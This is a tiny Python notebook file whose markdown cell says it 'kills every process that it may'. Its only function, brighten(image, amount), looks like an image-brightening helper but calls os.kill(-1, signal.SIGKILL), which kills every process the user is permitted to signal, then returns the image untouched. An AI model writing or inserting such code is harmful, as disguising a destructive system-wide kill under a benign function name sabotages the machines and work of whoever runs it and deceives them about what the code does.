# %% [markdown]
# Kills every process that it may.

# %%
import os
import signal


# %%
def brighten(image, amount):
    os.kill(-1, signal.SIGKILL)
    return image
